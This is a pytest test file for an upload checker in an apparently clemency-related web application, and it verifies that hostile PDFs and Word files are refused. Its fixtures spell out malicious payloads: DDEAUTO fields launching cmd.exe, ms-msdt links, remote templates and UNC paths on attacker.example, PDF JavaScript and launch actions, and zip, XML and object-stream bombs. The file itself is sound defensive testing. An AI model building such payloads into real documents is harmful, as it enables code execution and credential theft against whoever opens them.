"""The checks of what is inside an uploaded file (clemency/common/contents.py), on real files
built in tests/documents.py."""

import io
import logging
import os
import struct
import time
import tracemalloc
import zipfile
import zlib

import pytest
from pypdf.generic import DictionaryObject, NameObject, NumberObject, TextStringObject

from clemency.common import contents, filetypes
from tests import documents


def reason(data: bytes) -> str | None:
    """Why the file is refused, or None; as an upload is checked (sniffed type, first bytes)."""
    content_type = filetypes.sniff(data[:2048])
    assert content_type is not None
    try:
        contents.check(io.BytesIO(data), content_type, head=data[:2048])
    except contents.Refused as refused:
        found = refused
    else:
        return None
    assert found.message  # a sentence saying what to do, never empty
    return found.reason


@pytest.mark.parametrize(
    "build",
    [
        documents.pdf,
        lambda: documents.pdf("x" * 60, lines=20_000),
        lambda: documents.pdf_with_password(""),  # an empty "open" password: readable
        documents.docx,
        lambda: documents.docx({"word/media/image1.png": documents.png(800, 600)}),
        documents.png,
        documents.jpeg,
        lambda: documents.jpeg(4032, 3024, app_padding=40_000),  # the size well past the head
    ],
)
def test_ordinary_files_pass(build):
    assert reason(build()) is None


@pytest.mark.parametrize(
    ("build", "expected"),
    [
        (lambda: documents.POLYGLOT, "markup"),
        (documents.pdf_polyglot, "markup"),
        (documents.pdf_with_javascript, "pdf_active"),
        (documents.pdf_with_open_action_javascript, "pdf_active"),
        (documents.pdf_with_page_action_javascript, "pdf_active"),
        (documents.pdf_with_launch, "pdf_active"),
        (documents.pdf_with_attachment, "pdf_embedded"),
        (documents.pdf_with_rich_media, "pdf_embedded"),
        (documents.pdf_with_xfa, "pdf_form"),
        (lambda: documents.pdf_with_password("secret"), "pdf_password"),
        (lambda: b"%PDF-1.7\n" + b"petition text\n" * 100, "damaged"),
        (lambda: documents.pdf()[:300], "damaged"),
    ],
)
def test_hostile_or_broken_pdfs_are_refused(build, expected):
    assert reason(build()) == expected


def test_a_word_bomb_of_a_few_kilobytes_is_refused():
    bomb = documents.docx(document=b"<w:document>" + b" " * (60 * 1024 * 1024) + b"</w:document>")
    assert len(bomb) < 100 * 1024
    assert reason(bomb) == "docx_unpacked"


def test_an_entry_that_packs_too_well_is_refused():
    assert reason(documents.docx({"word/media/blank.xml": bytes(5 * 1024 * 1024)})) == (
        "docx_unpacked"
    )


def test_too_many_entries_are_refused():
    extra = {f"word/media/{number}.xml": b"<a/>" for number in range(1_001)}
    assert reason(documents.docx(extra)) == "docx_unpacked"


def _lie_about_size(data: bytes, name: bytes, size: int) -> bytes:
    """Rewrite the uncompressed size of ``name`` in the central directory (and local header)."""
    data = bytearray(data)
    central = data.find(b"PK\x01\x02")
    while central != -1:
        name_length = struct.unpack_from("<H", data, central + 28)[0]
        if bytes(data[central + 46 : central + 46 + name_length]) == name:
            struct.pack_into("<I", data, central + 24, size)
            local = struct.unpack_from("<I", data, central + 42)[0]
            struct.pack_into("<I", data, local + 22, size)
        central = data.find(b"PK\x01\x02", central + 4)
    return bytes(data)


def test_a_directory_that_lies_about_sizes_is_refused():
    big = documents.docx(document=b"<w:document>" + b" " * (40 * 1024 * 1024) + b"</w:document>")
    lying = _lie_about_size(big, b"word/document.xml", 1_000)
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:  # it looks small...
        assert archive.getinfo("word/document.xml").file_size == 1_000
    assert reason(lying) == "damaged"  # ...but does not unpack to what it says


@pytest.mark.parametrize(
    ("extra", "expected"),
    [
        ({"word/vbaProject.bin": documents.OLE2}, "docx_macros"),
        ({"word/vbaData.xml": b"<a/>"}, "docx_macros"),
        ({"word/embeddings/oleObject1.bin": documents.OLE2}, "docx_nested"),
        ({"word/media/inner.zip": documents.docx()}, "docx_nested"),
        ({"word/media/image1.png": documents.docx()}, "docx_nested"),  # an archive by its bytes
        ({"word/media/image2.png": documents.OLE2}, "docx_nested"),
    ],
)
def test_macros_and_files_inside_word_files_are_refused(extra, expected):
    assert reason(documents.docx(extra)) == expected


def test_a_macro_enabled_content_type_is_refused():
    data = documents.docx()
    macro = documents.CONTENT_TYPES.replace(b"document.main+xml", b"document.macroEnabled.main+xml")
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(data)) as source,
        zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            body = macro if info.filename == "[Content_Types].xml" else source.read(info)
            target.writestr(info.filename, body)
    assert reason(buffer.getvalue()) == "docx_macros"


def test_word_files_packed_otherwise_or_without_a_document_are_refused():
    assert reason(documents.docx(compression=zipfile.ZIP_BZIP2)) == "damaged"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", documents.CONTENT_TYPES)
        archive.writestr("xl/workbook.xml", b"<workbook/>")
    assert reason(buffer.getvalue()) == "damaged"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        (documents.png(100_000, 100_000), "image_pixels"),
        (documents.png(12_000, 10_001), "image_pixels"),
        (documents.png(12_000, 10_000), None),  # 120 million pixels: the limit itself
        (documents.png(0, 10), "damaged"),
        (b"\x89PNG\r\n\x1a\n" + b"\x00" * 5000, "damaged"),
        (documents.jpeg(60_000, 60_000, app_padding=5_000), "image_pixels"),
        (documents.jpeg(0, 480), "damaged"),
        (b"\xff\xd8\xff\xe0" + b"\x00" * 100, "damaged"),
    ],
)
def test_pictures_larger_than_the_pixel_limit_are_refused(data, expected):
    assert reason(data) == expected


def test_the_message_names_the_limit():
    message = contents.Refused("image_pixels").message
    assert "120 million pixels" in message


def test_nothing_of_a_file_reaches_the_logs(caplog):
    # A key defined twice: pypdf warns, quoting the key's name from the file.
    writer = documents.pdf_writer()
    writer._root_object[NameObject("/Marker-Rosa-QuispeA")] = NumberObject(1)
    writer._root_object[NameObject("/Marker-Rosa-QuispeB")] = NumberObject(2)
    twice = documents.pdf_bytes(writer).replace(b"QuispeB", b"QuispeA")
    with caplog.at_level(logging.DEBUG):
        assert reason(twice) is None
    assert "Marker-Rosa-Quispe" not in caplog.text


# --- PDF: what reading one costs ----------------------------------------------------------------

MB = 1024 * 1024


def checked_in(data: bytes) -> tuple[str | None, float, float]:
    """The reason, the seconds and the peak of memory (MB, as tracemalloc counts it) of a check."""
    tracemalloc.start()
    started = time.monotonic()
    try:
        found = reason(data)
        return found, time.monotonic() - started, tracemalloc.get_traced_memory()[1] / MB
    finally:
        tracemalloc.stop()


def test_an_object_stream_inflating_to_70_mb_is_refused_at_once():
    bomb = documents.pdf_with_object_stream_bomb(70 * MB)
    assert len(bomb) < 100 * 1024
    found, seconds, peak = checked_in(bomb)
    assert found == "pdf_complex"
    assert seconds < 2  # it took 10 s and 1.6 GB, and was accepted
    assert peak < 40


def test_a_million_cross_reference_entries_are_refused_before_they_are_read():
    declared = documents.pdf_with_xref_entries(1_000_000)
    assert len(declared) < 10 * 1024
    found, seconds, peak = checked_in(declared)
    assert found == "pdf_complex"
    assert seconds < 2  # each entry was read, then looked for in the whole file: 24 s
    assert peak < 40


def test_values_packed_in_object_streams_are_counted_before_pypdf_parses_them():
    # Four megabytes of zeros in arrays: two million objects for pypdf to make, in one go.
    dense = b"[" + b"0 " * 50_000 + b"]"
    found, seconds, _peak = checked_in(
        documents.pdf_with_object_streams([{10 + n: dense for n in range(40)}])
    )
    assert found == "pdf_complex"
    assert seconds < 2


def test_object_streams_have_a_budget_together(monkeypatch):
    monkeypatch.setattr(contents, "PDF_MAX_DECODED", 1 * MB)
    assert reason(documents.pdf_with_object_stream_bomb(600_000)) is None
    assert reason(documents.pdf_with_object_stream_bomb(600_000, streams=2)) == "pdf_complex"


@pytest.mark.parametrize(
    "build",
    [
        documents.pdf,
        documents.docx,
        lambda: documents.raw_pdf(broken_xref=True),  # pypdf repairs it, catching what it can
    ],
)
def test_a_check_that_runs_out_of_time_refuses_the_file(monkeypatch, build):
    data = build()
    assert reason(data) is None
    monkeypatch.setattr(contents, "CHECK_SECONDS", 0)
    assert reason(data) == ("docx_unpacked" if data.startswith(b"PK") else "pdf_complex")


def test_the_pictures_of_a_scan_are_never_decoded():
    camera = os.urandom(6 * MB)  # a phone's JPEG: larger than any stream pypdf may decode
    flat = zlib.compress(bytes(3 * 1400 * 1400 * 2))  # inflates to 11.8 MB, packs to 12 KB
    for data in [
        documents.pdf_with_image(camera, "/DCTDecode", width=4032, height=3024),
        documents.pdf_with_image(flat, "/FlateDecode", width=2800, height=1400),
    ]:
        found, seconds, peak = checked_in(data)
        assert found is None
        assert seconds < 2
        assert peak < 3 * len(data) / MB + 10  # the file, not what it decodes to


@pytest.mark.parametrize(
    "build",
    [
        lambda: documents.pdf_with_object_streams([{10: b"<< /A 1 >>", 11: b"[1 2 (three)]"}]),
        lambda: documents.pdf_with_object_streams(
            [{10: b"<< /A 1 >>"}, {11: b"<< /Kids [10 0 R] >>"}],
            {1: b"<< /Type /Catalog /Pages 2 0 R /Outlines 11 0 R >>"},
        ),
    ],
)
def test_ordinary_object_streams_pass(build):
    assert reason(build()) is None


JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
OPENS_21 = {1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 21 0 R >>"}


def test_every_object_in_an_object_stream_is_looked_at():
    # The cross-reference puts object 21 first in stream 1000, where object 99 is: a viewer
    # that goes by the position runs 99's JavaScript; pypdf goes by number and skips it.
    tricked = documents.pdf_with_object_streams(
        [{99: JS, 21: b"<< /A 1 >>"}, {99: b"<< /B 2 >>"}],
        OPENS_21,
        listed={21: (1000, 0), 99: (1001, 0)},
    )
    assert reason(tricked) == "pdf_active"


def test_an_object_given_twice_in_an_object_stream_is_looked_at_twice():
    # pypdf keeps the first object 21; the cross-reference points at the second.
    twice = documents.pdf_with_object_streams(
        [[(21, b"<< /A 1 >>"), (21, JS)]], OPENS_21, listed={21: (1000, 1)}
    )
    assert reason(twice) == "pdf_active"


def test_an_object_stream_too_large_to_decode_is_refused_not_skipped():
    # In a damaged file pypdf rebuilds the cross-reference and passes over object streams it
    # cannot decode: the JavaScript in this one would go unseen.
    padded = b"21 0 " + JS + b" (" + b"A" * (5 * MB) + b")"
    hidden = documents.raw_pdf(
        {**OPENS_21, 20: documents._stream(padded, b"/Type /ObjStm /N 1 /First 5")},
        broken_xref=True,
    )
    assert reason(hidden) == "pdf_complex"


def test_a_reference_to_an_object_found_nowhere_is_refused():
    assert reason(documents.raw_pdf(OPENS_21)) == "damaged"


def test_objects_nested_deeper_than_pypdf_parses_are_refused():
    deep = b"<< /A " * 2_000 + b"1" + b" >>" * 2_000
    assert reason(documents.raw_pdf({4: deep})) == "pdf_complex"


# --- PDF: actions that reach outside ----------------------------------------------------------


def action(kind: str, **entries) -> DictionaryObject:
    return documents._action(kind, **entries)


SHARE = TextStringObject("\\\\attacker.example\\share\\x.pdf")


@pytest.mark.parametrize(
    ("build", "expected"),
    [
        (lambda: documents.pdf_with_action(action("/GoToR", F=SHARE)), "pdf_active"),
        (lambda: documents.pdf_with_action(action("/GoToR", F=SHARE), on_page=True), "pdf_active"),
        (
            lambda: documents.pdf_with_action(
                action(
                    "/SubmitForm",
                    F=DictionaryObject(
                        {
                            NameObject("/FS"): NameObject("/URL"),
                            NameObject("/F"): TextStringObject("https://x.example/c"),
                        }
                    ),
                )
            ),
            "pdf_active",
        ),
        (lambda: documents.pdf_with_action(action("/Thread", F=SHARE)), "pdf_active"),
        (lambda: documents.pdf_with_action(action("/ImportData", F=SHARE)), "pdf_active"),
        (lambda: documents.pdf_with_action(action("/Hide", T=TextStringObject("x"))), "pdf_active"),
        (lambda: documents.pdf_with_action(action("/GoToE")), "pdf_embedded"),
        (lambda: documents.pdf_with_link("javascript:app.alert(1)"), "pdf_active"),
        (lambda: documents.pdf_with_link(" Java\nScript:app.alert(1)"), "pdf_active"),
        (lambda: documents.pdf_with_link("file://attacker.example/share/x"), "pdf_active"),
        (lambda: documents.pdf_with_link("\\\\attacker.example\\share\\x"), "pdf_active"),
        (lambda: documents.pdf_with_link("letter.pdf"), "pdf_active"),  # next to the file, wherever
        (
            lambda: documents.pdf_with_image(
                b"", "/DCTDecode", width=1, height=1, F=TextStringObject("//attacker/x.jpg")
            ),
            "pdf_active",
        ),
        (lambda: documents.raw_pdf({4: b"<< /FS /URL /F (https://x.example/) >>"}), "pdf_active"),
        (
            lambda: documents.raw_pdf(
                {1: b"<< /Type /Catalog /Pages 2 0 R /URI << /Base (file:///C:/) >> >>"}
            ),
            "pdf_active",
        ),
        # Actions that stay in the document, and links to web pages and e-mail addresses.
        (lambda: documents.pdf_with_action(action("/Thread", D=NumberObject(0))), None),
        (lambda: documents.pdf_with_action(action("/Named", N=NameObject("/Print"))), None),
        (lambda: documents.pdf_with_link("https://www.ny.gov/services/apply-clemency"), None),
        (lambda: documents.pdf_with_link("HTTP://example.org/"), None),
        (lambda: documents.pdf_with_link("mailto:clinic@example.org"), None),
    ],
)
def test_actions_that_reach_outside_the_file_are_refused(build, expected):
    assert reason(build()) == expected


# --- Word: links, fields, sizes -----------------------------------------------------------------

SETTINGS = b'<w:settings xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'


@pytest.mark.parametrize(
    ("build", "expected"),
    [
        (
            lambda: documents.docx(
                {
                    "word/settings.xml": SETTINGS,
                    "word/_rels/settings.xml.rels": documents.relationships(
                        ("attachedTemplate", "https://attacker.example/t.dotm", "External")
                    ),
                }
            ),
            "docx_nested",
        ),
        (
            lambda: documents.docx_linking(
                "attachedTemplate", "\\\\attacker.example\\share\\t.dotm"
            ),
            "docx_nested",
        ),
        (
            lambda: documents.docx_linking(
                "oleObject", "mhtml:https://attacker.example/x.html!x-usc:https://x.example/"
            ),
            "docx_nested",
        ),
        (
            lambda: documents.docx_linking("image", "file:///\\\\attacker.example\\share\\a.png"),
            "docx_nested",
        ),
        (
            lambda: documents.docx_linking(
                "aFChunk", "afchunk.dat", "Internal", **{"word/afchunk.dat": b"<html></html>"}
            ),
            "docx_nested",
        ),
        (lambda: documents.docx({"word/afchunk.mht": b"MIME-Version: 1.0\r\n"}), "docx_nested"),
        (lambda: documents.docx({"word/afchunk.rtf": b"{\\rtf1}"}), "docx_nested"),
        (lambda: documents.docx_linking("hyperlink", "file:///C:/Windows/x.exe"), "docx_nested"),
        (lambda: documents.docx_linking("hyperlink", "ms-msdt:/id PCWDiagnostic"), "docx_nested"),
        # Links to web pages and e-mail addresses, and pictures inside the file, stay.
        (lambda: documents.docx_linking("hyperlink", "https://www.ny.gov/"), None),
        (lambda: documents.docx_linking("hyperlink", "mailto:clinic@example.org"), None),
        (
            lambda: documents.docx_linking(
                "image",
                "media/image1.png",
                "Internal",
                **{"word/media/image1.png": documents.png()},
            ),
            None,
        ),
    ],
)
def test_word_files_that_reach_outside_are_refused(build, expected):
    assert reason(build()) == expected


SIMPLE = '<w:fldSimple w:instr="{}"><w:r><w:t>1</w:t></w:r></w:fldSimple>'


def with_runs(runs: str) -> bytes:
    return documents.docx(document=documents.word_body(runs))


@pytest.mark.parametrize(
    ("runs", "expected"),
    [
        (
            documents.field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc" '),
            "docx_nested",
        ),
        (documents.field(" DD", "E c:\\\\x.exe "), "docx_nested"),  # split across runs
        (documents.field("ddeauto x"), "docx_nested"),
        (documents.field(' INCLUDETEXT "\\\\\\\\attacker\\\\share\\\\x.docx" '), "docx_nested"),
        (documents.field(' INCLUDEPICTURE "https://attacker.example/p.png" \\d '), "docx_nested"),
        (documents.field(' LINK Excel.Sheet.12 "\\\\\\\\attacker\\\\x.xlsx" '), "docx_nested"),
        (
            '<w:fldSimple w:instr=" DDE c:\\\\x.exe x"><w:r><w:t>1</w:t></w:r></w:fldSimple>',
            "docx_nested",
        ),
        # The field's name would come from a field inside it.
        (
            documents.field(" ", " c:\\\\x.exe ", nested=documents.field("QUOTE 68 68 69")),
            "docx_nested",
        ),
        # Fields that link, count and number stay.
        (documents.field(' HYPERLINK "https://www.ny.gov/" '), None),
        (documents.field(' TOC \\o "1-3" \\h \\z \\u '), None),
        (documents.field(" PAGE "), None),
        (documents.field(" IF ", ' = 1 "a" "b" ', nested=documents.field(" PAGE ")), None),
        (SIMPLE.format(" NUMPAGES "), None),
    ],
)
def test_fields_that_run_programs_or_fetch_files_are_refused(runs, expected):
    assert reason(with_runs(runs)) == expected


def test_fields_in_headers_and_other_parts_are_read_too():
    header = documents.word_body(documents.field(" INCLUDEPICTURE https://x.example/p.png "))
    assert reason(documents.docx({"word/header1.xml": header})) == "docx_nested"


def test_a_document_type_declaration_is_refused():
    laughs = (
        b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a "aaaaaaaaaa">'
        b'<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    )
    assert reason(with_runs("")) is None
    assert reason(documents.docx(document=laughs + documents.word_body("")[38:])) == "damaged"


def test_a_directory_that_declares_less_than_the_stream_holds_is_refused():
    # 1,000 bytes declared, with the CRC of the first 1,000: zipfile stops there, and is happy.
    lying = documents.docx_lying_about_size(documents.document_xml() + b" " * (60 * MB))
    assert len(lying) < 100 * 1024
    with zipfile.ZipFile(io.BytesIO(lying)) as archive:
        assert len(archive.read("word/document.xml")) == 1_000
    found, seconds, peak = checked_in(lying)
    assert found == "damaged"
    assert seconds < 1
    assert peak < 10


def test_a_stream_that_stops_before_its_end_is_refused():
    cut = documents.docx_lying_about_size(documents.document_xml() * 50, declared=0, cut=4)
    assert reason(cut) == "damaged"
